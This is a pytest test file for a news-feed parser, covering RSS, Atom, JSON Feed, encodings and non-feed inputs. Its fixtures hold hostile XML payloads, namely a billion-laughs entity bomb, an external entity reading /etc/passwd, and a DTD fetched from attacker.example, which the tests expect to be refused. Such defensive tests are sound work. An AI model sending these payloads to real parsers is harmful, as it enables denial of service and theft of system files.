"""parse_feed: every format into RawItems; hostile XML, HTML pages and odd encodings."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from connectors.parser import parse_feed, refuse_hostile_xml
from pipeline.errors import HostileXML, NotAFeed
from pipeline.settings import PROJECT_ROOT
from testkit.feedserver import make_items, render_feed

DEMO = PROJECT_ROOT / "config" / "demo"
URL = "https://feeds.example.com/feed"

RSS10 = b"""<?xml version="1.0" encoding="utf-8"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
  xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:sy="http://purl.org/rss/1.0/modules/syndication/">
<channel rdf:about="https://e.example/"><title>RDF</title><link>https://e.example/</link><description>d</description>
<sy:updatePeriod>daily</sy:updatePeriod><sy:updateFrequency>4</sy:updateFrequency></channel>
<item rdf:about="https://e.example/a"><title>A</title><link>https://e.example/a</link>
<description>Only a summary</description><dc:date>2026-02-01T10:00:00+01:00</dc:date></item>
</rdf:RDF>"""

JSON10 = b"""{"version": "https://jsonfeed.org/version/1", "title": "J",
 "author": {"name": "Feed Author"},
 "items": [{"id": 7, "url": "https://j.example/7?utm_source=x", "content_text": "plain text",
            "date_published": "2026-02-01T10:00:00Z", "attachments": [{"url": "https://j.example/7.mp3"}]}]}"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<rss version="2.0"><channel><title>&lol3;</title><item><title>&lol3;</title></item></channel></rss>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<rss version="2.0"><channel><title>x</title><item><title>&xxe;</title></item></channel></rss>"""

XXE_PARAM = b"""<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd" [ <!ELEMENT rss ANY> ]>
<rss version="2.0"><channel><title>x</title></channel></rss>"""


@pytest.mark.parametrize("fmt", ["rss", "atom", "json"])
def test_generated_formats_give_the_same_items(fmt: str) -> None:
    body = render_feed(make_items(3), fmt)
    parsed = parse_feed(body, feed_url=URL, feed_name="Test", tags=["t"], language="en")
    assert len(parsed.items) == 3
    first = sorted(parsed.items, key=lambda i: i.guid or "")[0]
    assert first.guid == "https://news.example.com/story/0"
    assert first.canonical_link == "https://news.example.com/story/0"  # utm_source removed
    assert first.key == first.canonical_link
    assert first.content and first.content.startswith("<p>Full text of story 0")
    assert first.published_at is not None and first.published_at.tzinfo is not None
    assert first.published_raw
    assert first.authors == ["Staff Reporter"]
    assert first.feed_name == "Test" and first.tags == ["t"] and first.language == "en"


def test_rss10_rdf_with_syndication_hints() -> None:
    parsed = parse_feed(RSS10, feed_url=URL)
    assert parsed.version == "rss10"
    (item,) = parsed.items
    assert item.summary == "Only a summary" and item.content is None
    assert item.published_at is not None and item.published_at.isoformat() == "2026-02-01T09:00:00+00:00"
    assert item.published_raw == "2026-02-01T10:00:00+01:00"
    assert parsed.update_period_s == 86400 // 4


def test_rss_ttl_is_read_in_seconds() -> None:
    parsed = parse_feed(render_feed(make_items(1), "rss", ttl=45), feed_url=URL)
    assert parsed.ttl_s == 45 * 60


def test_json_feed_1_0() -> None:
    parsed = parse_feed(JSON10, feed_url=URL)
    (item,) = parsed.items
    assert parsed.version == "json10"
    assert item.guid == "7" and item.canonical_link == "https://j.example/7"
    assert item.content == "plain text" and item.authors == ["Feed Author"]
    assert item.enclosures == ["https://j.example/7.mp3"]


@pytest.mark.parametrize("encoding", ["iso-8859-1", "windows-1252"])
def test_declared_legacy_encoding(encoding: str) -> None:
    text = (f'<?xml version="1.0" encoding="{encoding}"?><rss version="2.0"><channel><title>Caf\u00e9</title>'
            "<item><title>Z\u00fcrich \u00e0 la cr\u00e8me</title><guid>g1</guid>"
            "<description>Na\u00efve r\u00e9sum\u00e9</description></item></channel></rss>")
    parsed = parse_feed(text.encode("cp1252"), feed_url=URL)
    assert parsed.items[0].title == "Z\u00fcrich \u00e0 la cr\u00e8me"
    assert parsed.items[0].summary == "Na\u00efve r\u00e9sum\u00e9"


def test_undeclared_cp1252_bytes_in_a_utf8_feed_do_not_crash() -> None:
    body = (b'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>t</title>'
            b"<item><title>Smart \x93quotes\x94</title><guid isPermaLink=\"false\">g</guid></item></channel></rss>")
    parsed = parse_feed(body, feed_url=URL)
    assert parsed.items[0].guid == "g"
    assert "quotes" in (parsed.items[0].title or "")


@pytest.mark.parametrize("body", [BILLION_LAUGHS, XXE, XXE_PARAM, BILLION_LAUGHS.decode().encode("utf-16")],
                         ids=["billion-laughs", "external-entity", "dtd-internal-subset", "utf16-billion-laughs"])
def test_hostile_xml_is_refused(body: bytes) -> None:
    with pytest.raises(HostileXML) as err:
        parse_feed(body, feed_url=URL)
    assert err.value.feed_url == URL and err.value.kind == "hostile_xml"


def test_plain_public_doctype_is_allowed() -> None:
    body = (b'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
            b'"http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"><channel><title>t</title>'
            b"<link>https://x.example/</link><item><title>a</title><link>https://x.example/a</link></item>"
            b"</channel></rss>")
    refuse_hostile_xml(body, feed_url=URL)
    assert parse_feed(body, feed_url=URL).items[0].link == "https://x.example/a"


@pytest.mark.parametrize(("body", "ctype", "words"), [
    (b"<!DOCTYPE html><html><head><title>Home</title></head><body><p>Welcome</p></body></html>", None, "HTML page"),
    (b"<html><body>hi</body></html>", "text/html", "HTML page"),
    (b"\x00\x01 definitely not a feed", None, "not an RSS"),
    (b'{"hello": "world"}', "application/json", "not a JSON Feed"),
    (b"{not json", None, "not valid JSON"),
], ids=["html-doctype", "html-content-type", "garbage", "other-json", "broken-json"])
def test_not_a_feed(body: bytes, ctype: str | None, words: str) -> None:
    with pytest.raises(NotAFeed, match=words):
        parse_feed(body, feed_url=URL, content_type=ctype)


def _demo(name: str) -> bytes:
    return Path(DEMO / name).read_bytes()


def test_demo_feeds_cover_four_formats_and_carry_the_syndicated_story_twice() -> None:
    versions = {}
    seed_titles = []
    for name in ("wire.xml", "gazette.atom", "ledger.rdf", "copperline.json"):
        parsed = parse_feed(_demo(name), feed_url=f"file:///{name}")
        versions[name] = parsed.version
        assert 5 <= len(parsed.items) <= 8
        for item in parsed.items:
            assert item.content and len(item.content.split()) >= 250, item.title
            assert item.published_at is not None and item.canonical_link
        seed_titles += [i.title for i in parsed.items if "Rutte" in (i.content or "")]
    assert versions == {"wire.xml": "rss20", "gazette.atom": "atom10", "ledger.rdf": "rss10",
                        "copperline.json": "json11"}
    assert len(seed_titles) == 2 and seed_titles[0] != seed_titles[1]


def _both_paths(body: bytes) -> tuple[list[dict], list[dict]]:
    when = datetime(2026, 2, 5, tzinfo=UTC)
    fast = parse_feed(body, feed_url=URL, fetched_at=when)
    slow = parse_feed(body, feed_url=URL, fetched_at=when, fast_path=False)
    assert fast.version == slow.version and fast.title == slow.title
    assert (fast.ttl_s, fast.update_period_s) == (slow.ttl_s, slow.update_period_s)
    return [i.model_dump() for i in fast.items], [i.model_dump() for i in slow.items]


@pytest.mark.parametrize("name", ["wire.xml", "gazette.atom", "ledger.rdf", "generated-rss", "generated-atom"])
def test_fast_path_gives_the_same_items_as_feedparser(name: str) -> None:
    if name.startswith("generated-"):
        body = render_feed(make_items(5), name.removeprefix("generated-"), ttl=30)
    else:
        body = _demo(name)
    fast, slow = _both_paths(body)
    assert fast == slow


def test_fast_path_declines_what_it_does_not_know() -> None:
    from connectors.fastxml import read_fast

    assert read_fast(b'<?xml version="1.0"?><rss version="0.91"><channel><title>t</title></channel></rss>', URL) is None
    assert read_fast(b"<rss version='2.0'><channel><title>unclosed</channel></rss>", URL) is None
    xhtml = b'<feed xmlns="http://www.w3.org/2005/Atom"><title type="xhtml"><div/></title></feed>'
    assert read_fast(xhtml, URL) is None
    assert read_fast(b"<html><body/></html>", URL) is None


@pytest.mark.parametrize("fmt", ["rss", "atom", "json"])
def test_already_seen_entries_are_counted_but_not_built(fmt: str) -> None:
    from connectors.state import item_id

    body = render_feed(make_items(5), fmt)
    everything = parse_feed(body, feed_url=URL)
    seen = frozenset(item_id(i) for i in everything.items[:3])
    parsed = parse_feed(body, feed_url=URL, skip_ids=seen)
    assert parsed.item_count == 5 and len(parsed.published) == 5
    assert [i.guid for i in parsed.items] == [i.guid for i in everything.items[3:]]
